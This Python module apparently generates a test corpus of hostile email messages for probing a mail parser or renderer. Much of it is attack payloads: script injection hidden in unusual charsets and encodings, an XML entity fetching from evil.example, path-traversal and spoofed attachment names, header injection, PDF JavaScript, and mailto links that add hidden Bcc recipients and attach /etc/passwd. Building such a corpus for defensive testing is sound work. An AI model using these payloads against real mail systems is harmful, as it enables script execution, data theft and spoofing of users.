"""Whole hostile letters: their trick lies in MIME, in header fields, or in what is attached."""

import base64
from collections.abc import Iterator
from pathlib import Path

DATA = Path(__file__).parent / "attacks_data"
Letters = Iterator[tuple[str, bytes]]

URL = b"http://evil.example/x"
HTML = b"<script>alert(1)</script><img src=x onerror=alert(1)><img src=" + URL + b">"
SVG = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><image href='"
    + URL
    + b"'/></svg>"
)
XHTML = b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"
XSLT = (
    b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='"
    + URL
    + b"'?><!DOCTYPE x [<!ENTITY e SYSTEM '"
    + URL
    + b"'>]><x>&e;</x>"
)
WORDS = f"\"'>{HTML.decode()}${{7*7}}{{{{7*7}}}}{{% csrf_token %}}"

CHARSETS = (
    ("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
    ("utf-7", HTML.decode().encode("utf-7")),
    ("iso-2022-jp", b"\x1b(J<script>alert(1)</script>\x1b$B<img src=\x1b(Bx onerror=alert(1)>"),
    ("iso-2022-jp", b"<p title='\x1b$B'><img src=x onerror=alert(1)>\x1b(B'>"),
    ("iso-2022-kr", b"\x1b$)C<p title='\x0e'><img src=x onerror=alert(1)>\x0f'>"),
    ("iso-2022-cn", b"<p title='\x1b$A\x0e'><img src=x onerror=alert(1)>\x0f'>"),
    ("hz-gb-2312", b"<p title='~{'><img src=x onerror=alert(1)>~}'>"),
    ("utf-16", HTML.decode().encode("utf-16")),
    ("utf-16le", HTML.decode().encode("utf-16-be")),
    ("utf-32", HTML.decode().encode("utf-32")),
    ("us-ascii", b"\xff\xfe" + HTML.decode().encode("utf-16-le")),
    ("utf-8", b"\xfe\xff" + HTML.decode().encode("utf-16-be")),
    ("utf-8", b"\xef\xbb\xbf" + HTML),
    (
        "utf-8",
        b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe",
    ),
    ("utf-8", b"<img src='\xf0'\xff onerror=alert(1)><p title='\xc3'><img src=x onerror=alert(1)>'>"),
    ("shift_jis", b"<p title='\x81'><img src=x onerror=alert(1)>'>"),
    ("gb18030", b'<p title="\x81"><img src=x onerror=alert(1)>">'),
    ("big5", b"<p title='\xa1'><img src=x onerror=alert(1)>'>"),
    ("euc-jp", b"<p title='\x8f'><img src=x onerror=alert(1)>'>"),
    ("x-mac-farsi", b"\xbcscript\xbealert(1)\xbc/script\xbe"),
    ("cp037", HTML.decode().encode("cp037", "replace")),
    ("ibm424", HTML.decode().encode("cp424", "replace")),
    ("x-user-defined", HTML),
    ('utf-8"><script>alert(1)</script>', HTML),
    ("unicode-escape", b"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("idna", HTML),
    ("punycode", HTML),
    ("rot13", b"<fpevcg>nyreg(1)</fpevcg><vzt fep=k bareebe=nyreg(1)>"),
    ("base64", base64.b64encode(HTML)),
    ("", HTML),
)

NAMES = (
    b'"<img src=x onerror=alert(1)>.txt"',
    b'"../../../../etc/cron.d/x.html"',
    b'"..\\\\..\\\\windows\\\\x.html"',
    b'"C:\\\\x.exe"',
    b'"/etc/passwd"',
    b'"a\\"; filename=evil.html; x=\\".txt"',
    b'"a%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"',
    b'"=?utf-8?q?a=0D=0AContent-Type=3A_text/html=0D=0A=0D=0A<script>alert(1)</script>?="',
    '"bill\u202efdp.exe"'.encode(),
    '"ﬁle\u2024\u2024\u2215x\u0301.html"'.encode(),
    '"a\u2028b\u0085c\u200d.html"'.encode(),
    b'"con.txt"',
    b'".htaccess"',
    b'"~root"',
    b'"x\x00.html"',
    b'"x' + b"y" * 3000 + b'.txt"',
    b'""',
    b'"."',
    b"\"'onmouseover='alert(1)\"",
    b"*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%0D%0A%2F..%2F.html",
    b"*=x-none''%00%ff%fe.html",
    b"*0=a; filename*1=.html; filename*999999999=x",
)

TYPES = (
    (b"image/svg+xml", SVG),
    (b"image/svg", SVG),
    (b"IMAGE/SVG+XML; charset=utf-7", SVG),
    (b"application/xhtml+xml", XHTML),
    (b"text/xml", XSLT),
    (b"application/xml; charset=utf-16", XSLT),
    (b"text/xsl", XSLT),
    (b"application/rss+xml", XHTML),
    (b"text/html; name=x.txt", HTML),
    (b"text/html;charset=utf-7;charset=utf-8", HTML),
    (b"text/html,text/plain", HTML),
    (b"text/plain; x=text/html", HTML),
    (b"text/plain\x0b;text/html", HTML),
    (b"text/plain, text/html", HTML),
    (b"text/vtt", HTML),
    (b"text/css", b"*{background:url(" + URL + b")}"),
    (b"text/javascript", b"alert(1)"),
    (b"text/cache-manifest", b"CACHE MANIFEST\n" + URL),
    (b"text/x-component", HTML),
    (b"text/", HTML),
    (b"text", HTML),
    (b"*/*", HTML),
    (b"", HTML),
    (b"image/png", SVG),
    (b"image/png", HTML),
    (b"image/png\r\nX-Injected: yes", HTML),
    (b"image/gif", b"GIF89a/*" + HTML + b"*/=1;alert(1)"),
    (b"image/jpeg", b"\xff\xd8\xff" + HTML),
    (b"image/bmp", b"BM" + HTML),
    (
        b"application/pdf",
        b"%PDF-1.7\n" + HTML + b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>/A<</S/URI/URI(" + URL + b")>>>>",
    ),
    (b"video/mp4", HTML),
    (b"audio/mpeg", b"ID3" + HTML),
    (b"application/x-shockwave-flash", b"CWS" + HTML),
    (b"application/hta", HTML),
    (b"application/x-mimearchive", b"MIME-Version: 1.0\n\n" + HTML),
    (b"multipart/related; type=text/html", HTML),
    (b'message/external-body; access-type=URL; URL="http://evil.example/x"', b"Content-Type: text/html\n\n" + HTML),
    (b"message/partial; id=x; number=1; total=2", HTML),
    (b"message/http", HTML),
    (
        b"message/delivery-status",
        b"Reporting-MTA: dns; " + HTML + b"\n\nFinal-Recipient: rfc822; " + HTML + b"\nDiagnostic-Code: " + HTML,
    ),
    (b"message/disposition-notification", b"Final-Recipient: rfc822; " + HTML + b"\nDisposition: " + HTML),
    (b"text/rfc822-headers", b"Subject: " + HTML),
    (b"application/ms-tnef; name=winmail.dat", b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00" + b"\xff" * 40 + HTML),
    (b"application/pgp-signature", HTML),
    (b"application/pkcs7-mime; smime-type=signed-data", b"\x30\x80" + HTML),
    (b"application/ld+json", b'{"@type":"EmailMessage","potentialAction":{"url":"http://evil.example/x"}}'),
    (b"text/x-amp-html", b"<script src=" + URL + b"></script>" + HTML),
    (b"text/enriched", b"<x-html>" + HTML),
    (b"text/richtext", HTML),
    (b"text/rtf", b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE " + URL + b"}}}"),
)

FIELDS = (DATA / "fields.txt").read_text().split()
ACTIVE = (
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<file:///etc/passwd>, <https://evil.example/" onmouseover="alert(1)>',
    "<mailto:x@evil.example?bcc=y@evil.example&subject=a%0d%0aBcc:z@evil.example&attach=/etc/passwd&body=<script>alert(1)</script>>",
    "<https://127.0.0.1/>, <https://evil.example\\@bank.example/>",
)
EVENT, CARD = (DATA / "event.ics").read_text(), (DATA / "card.vcf").read_text()
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
)
DRAWN = "data:image/svg+xml;base64," + base64.b64encode(SVG).decode()


def letters() -> Letters:
    yield from _charsets()
    yield from _attached()
    yield from _fields()
    yield from _calendars()
    yield from _related()
    yield from _odd()


def _charsets() -> Letters:
    for number, (charset, octets) in enumerate(CHARSETS):
        kind = f'; charset="{charset}"'.encode() if charset else b""
        for form in (b"html", b"plain"):
            encoded = base64.encodebytes(octets)
            yield (
                f"charset-{number:02}-{form.decode()}",
                _letter(b"text/" + form + kind, encoded, b"Content-Transfer-Encoding: base64\n"),
            )
        word = f"=?{charset or 'x'}?b?{base64.b64encode(octets).decode()}?=".encode()
        yield (
            f"word-{number:02}",
            b"From: " + word + b" <x@evil.example>\nSubject: " + word + b"\nTo: " + word + b" <y@evil.example>\n\nx\n",
        )


def _attached() -> Letters:
    for number, name in enumerate(NAMES):
        starred = name.startswith(b"*")
        parameter = (b"filename" if starred else b"filename=") + name
        fields = b"Content-Disposition: attachment; " + parameter + b"\nContent-Description: " + WORDS.encode() + b"\n"
        yield f"name-{number:02}", _mixed(_part(b"text/html", HTML, fields) + _part(b"image/png", SVG, fields))
    for number, (kind, octets) in enumerate(TYPES):
        encoded = base64.encodebytes(octets)
        fields = b"Content-Transfer-Encoding: base64\nContent-ID: <p>\n"
        yield (
            f"type-{number:02}",
            _mixed(
                _part(b"text/html", b"<img src=cid:p><object data=cid:p></object><a href=cid:p>x</a>")
                + _part(kind, encoded, fields + b"Content-Disposition: inline; filename=x.png\n")
                + _part(kind, encoded, fields)
            ),
        )
        yield f"only-{number:02}", _letter(kind, encoded, b"Content-Transfer-Encoding: base64\n")


def _fields() -> Letters:
    coded = f"=?utf-8?b?{base64.b64encode(WORDS.encode()).decode()}?=".encode()
    for number, name in enumerate(FIELDS):
        for how, said in (
            ("plain", WORDS.encode()),
            ("coded", coded),
            ("name", b'"' + WORDS.replace('"', "").encode() + b'" <x@evil.example>'),
        ):
            yield f"field-{number:02}-{how}", b"%s: %s\nSubject: %s\n\nHello\n" % (name.encode(), said, name.encode())
    for number, way in enumerate(ACTIVE):
        said = "".join(
            f"{name}: {way}\n" for name in FIELDS if name.startswith(("List", "Archived", "Disposition", "BIMI"))
        )
        yield f"ways-{number:02}", b"From: x@evil.example\nSubject: ways\n" + said.encode() + b"\nHello\n"


def _calendars() -> Letters:
    for number, url in enumerate((*URLS, DRAWN)):
        for method in ("REQUEST", "CANCEL", "REPLY", "COUNTER", "PUBLISH", "<b>"):
            text = EVENT.format(method=method, uid=f"{number}@evil.example", text=WORDS.replace('"', "'"), url=url)
            yield (
                f"event-{number}-{method.strip('<>')}",
                _letter(b"text/calendar; method=" + method.encode(), text.encode()),
            )
        for version in ("2.1", "3.0", "4.0"):
            text = CARD.format(version=version, text=WORDS.replace("\n", ""), url=url)
            part = _part(b"text/vcard", text.encode(), b"Content-Disposition: attachment; filename=x.vcf\n")
            yield f"card-{number}-{version}", _mixed(_part(b"text/plain", b"see") + part)


def _related() -> Letters:
    """Parts that call for one another."""
    page = b"<base href=http://evil.example/><img src=cid:s><img src=x.svg><img src='mid:1/2'>"
    page += b"<iframe src=cid:h></iframe><link rel=stylesheet href=cid:c>"
    for number, way in enumerate(
        (b"cid:h", b"http://evil.example/h", b"../../../login", b"javascript:alert(1)", b"file:///etc/passwd")
    ):
        parts = _part(
            b"text/html",
            page + b"<embed src=" + way + b"><a href=" + way + b">x</a>",
            b"Content-Location: " + way + b"\n",
        )
        parts += _part(b"text/html", HTML, b"Content-ID: <h>\nContent-Location: " + way + b"\n")
        parts += _part(b"text/css", b"*{background:url(" + URL + b")}", b"Content-ID: <c>\n") + _part(
            b"image/svg+xml", SVG, b"Content-ID: <s>\n"
        )
        yield (
            f"related-{number}",
            b"From: x@evil.example\nSubject: related\nContent-Base: http://evil.example/\n"
            + _whole(b'related; type="text/html"; start="<h>"', parts),
        )
    inner = (
        b'From: "<script>alert(1)</script>" <x@evil.example>\nSubject: <img src=x onerror=alert(1)>\n'
        b"Content-Type: text/html\n\n" + HTML
    )
    for depth in (1, 3, 40):
        inside = inner
        for _ in range(depth):
            inside = b"From: x@evil.example\nSubject: <script>alert(1)</script>\n" + _whole(
                b"mixed", _part(b"message/rfc822", inside)
            ).replace(b"--b", b"--b%d" % len(inside)).replace(b"boundary=b", b"boundary=b%d" % len(inside))
        yield f"nested-{depth}", inside


def _odd() -> Letters:
    """Readers that disagree on where a part begins, how it is encoded, what it is."""
    yield (
        "html-in-text",
        _letter(
            b"text/plain",
            HTML
            + b'\n\nhttp://evil.example/"onmouseover=alert(1)//<b>\njavascript:alert(1) '
            + b"www.evil.example'><img src=x onerror=alert(1)>\n",
        ),
    )
    yield "two-types", b"From: x@evil.example\nContent-Type: text/plain\nContent-Type: text/html\n\n" + HTML
    yield (
        "two-boundaries",
        b"From: x@evil.example\nContent-Type: multipart/mixed; boundary=a; boundary=b\n\n"
        b"--a\nContent-Type: text/plain\n\nx\n--b\nContent-Type: text/html\n\n" + HTML + b"\n--b--\n--a--\n",
    )
    yield (
        "no-end",
        b"From: x@evil.example\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        + HTML,
    )
    yield (
        "encoded-multipart",
        b"From: x@evil.example\nContent-Type: multipart/mixed; boundary=b\nContent-Transfer-Encoding: base64\n\n"
        b"--b\nContent-Type: text/html\n\n" + HTML + b"\n--b--\n",
    )
    yield (
        "quoted-printable",
        _letter(
            b"text/html",
            b"=3Cscript=3Ealert(1)=3C/script=3E=3Cimg src=3Dx onerror=3D=\nalert(1)=3E<sc=\nript>alert(1)</sc=\nript>",
            b"Content-Transfer-Encoding: quoted-printable\n",
        ),
    )
    yield "uuencoded", _letter(b"text/plain", b"begin 644 ../../x.html\n" + b"#/'-C\n`\nend\n" + HTML)
    yield "yenc", _letter(b"text/plain", b"=ybegin line=128 size=1 name=<script>alert(1)</script>\nx\n=yend size=1\n")
    yield (
        "folded",
        b"From: x@evil.example\nContent-Type: text/html;\n charset\n =\n utf-7\n\n"
        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + HTML,
    )
    yield (
        "lone-cr",
        b"From: x@evil.example\nSubject: a\rContent-Type: text/html\r\r<script>alert(1)</script>\n\n" + HTML,
    )
    yield (
        "nul",
        b"From: x@evil.example\nSubject: a\0b\nContent-Type: text/html\n\n"
        b"<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>\0" + HTML,
    )
    yield "flowed", _letter(b"text/plain; format=flowed; delsp=yes", b"> <scr \n> ipt>alert(1)</scr \n> ipt> \n" + HTML)
    yield (
        "control",
        _letter(b"text/plain", bytes(range(32)) + "\u202e\u2066\u200f<b>\ufeff".encode() + b"\x1b]0;x\x07\x1b[2J"),
    )


def _letter(kind: bytes, body: bytes, fields: bytes = b"") -> bytes:
    return (
        b"From: x@evil.example\nTo: anna@example.test\nSubject: x\nMIME-Version: 1.0\nContent-Type: "
        + kind
        + b"\n"
        + fields
        + b"\n"
        + body
    )


def _part(kind: bytes, body: bytes, fields: bytes = b"") -> bytes:
    return b"--b\nContent-Type: " + kind + b"\n" + fields + b"\n" + body + b"\n"


def _mixed(parts: bytes) -> bytes:
    return b"From: x@evil.example\nTo: anna@example.test\nSubject: x\n" + _whole(b"mixed", parts)


def _whole(kind: bytes, parts: bytes) -> bytes:
    return b"MIME-Version: 1.0\nContent-Type: multipart/" + kind + b"; boundary=b\n\n" + parts + b"--b--\n"
